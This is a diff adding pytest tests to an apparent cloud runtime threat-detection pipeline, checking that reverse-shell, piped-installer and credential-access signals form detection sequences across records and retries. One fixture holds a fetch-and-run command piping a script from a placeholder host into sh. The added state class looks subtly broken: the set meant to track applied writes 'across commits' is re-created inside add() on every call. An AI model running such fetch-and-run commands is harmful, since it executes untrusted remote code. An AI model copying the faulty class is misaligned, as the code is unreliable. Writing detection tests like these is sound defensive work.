@@ -283,3 +283,79 @@ def _run_reading(pipeline: Pipeline, state: _TableState, events: list) -> list[O
     _LAST_READS[:] = state.reads
     state.commit()
     return out
+
+
+class _StoreLikeState(InMemoryState):
+    """Like the State table (vigil_aws.state_store): a commit writes one add per key and record
+    (a record's repeated add to a key is taken for a redelivery of it)."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.stored: dict[str, int] = {}
+        self.adds: list[tuple[str, object, int]] = []
+        self.record: object = None
+
+    def begin_record(self, ranges) -> None:  # type: ignore[no-untyped-def]
+        self.record = tuple(sorted(ranges.items()))
+
+    def add(self, key: str, n: int, ttl_s: int) -> None:
+        super().add(key, n, ttl_s)
+        self.adds.append((key, self.record, n))
+
+        self.applied: set[tuple[str, object]] = set()  # (key, record) already counted, across commits
+
+    def commit(self) -> None:
+        for key, record, n in self.adds:
+            if (key, record) not in self.applied:
+                self.applied.add((key, record))
+                self.stored[key] = self.stored.get(key, 0) + n
+        self.adds = []
+        super().commit()
+        self._counts = dict(self.stored)
+
+    def lose(self, key: str) -> None:
+        """A write of ``key`` that failed while the others of its invocation were stored."""
+        self.stored.pop(key, None)
+        self.applied = {(k, r) for k, r in self.applied if k != key}
+        self._counts = dict(self.stored)
+
+
+def test_two_new_signal_types_in_one_record_are_both_remembered_for_later_batches() -> None:
+    # GIVEN one record with two new Execution signals (a reverse shell and a piped installer from
+    # it), in a State that, like the State table, counts one add per key and record
+    from vigil.sequences import _bucket
+
+    install = s.proc("/bin/sh", "-c", "curl -fsSL https://get.example.com/i | sh", pid=4200, parent=REVERSE)
+    p, state = Pipeline.default(account_id="123456789012", region="us-east-1"), _StoreLikeState()
+    first = _run(p, state, [s.exec_(REVERSE, t=0), s.exec_(install, t=SEC)])
+    kinds = {o.finding["type"] for o in first}
+    assert kinds >= {"Execution:Runtime/ReverseShell", "Execution:Runtime/SuspiciousCommand"}
+    assert _bucket("Execution:Runtime/ReverseShell") != _bucket("Execution:Runtime/SuspiciousCommand")
+    # WHEN a later record brings a second tactic
+    (o,) = _seq(_run(p, state, [s.exec_(IMDS, t=30 * SEC)]))
+    # THEN the sequence lists all three signals (the index of seen types kept both of the first
+    # record's types: their bits are added in one add, not two of which the State keeps one)
+    assert [n for n, _ in _signals(o)] == [
+        "Execution:Runtime/ReverseShell",
+        "Execution:Runtime/SuspiciousCommand",
+        "CredentialAccess:Runtime/SuspiciousCommand",
+    ]
+    assert o.count == 3
+
+
+def test_a_retry_after_the_index_write_failed_repairs_the_index() -> None:
+    # GIVEN a reverse shell whose State write stored the type's first sighting but failed on the
+    # scope's index of seen types (a throttled write; the record is retried)
+    p, state = Pipeline.default(account_id="123456789012", region="us-east-1"), _StoreLikeState()
+    shell = [s.exec_(REVERSE, t=0)]
+    _run(p, state, shell)
+    index = next(k for k in state.stored if k.endswith("|types"))
+    state.lose(index)
+    # WHEN the record is delivered again, then a second tactic arrives
+    _run(p, state, shell)
+    (o,) = _seq(_run(p, state, [s.exec_(IMDS, t=30 * SEC)]))
+    # THEN the sequence forms with both signals (the retry put the type back in the index)
+    assert [n for n, _ in _signals(o)] == [
+        "Execution:Runtime/ReverseShell",
+        "CredentialAccess:Runtime/SuspiciousCommand",
+    ]
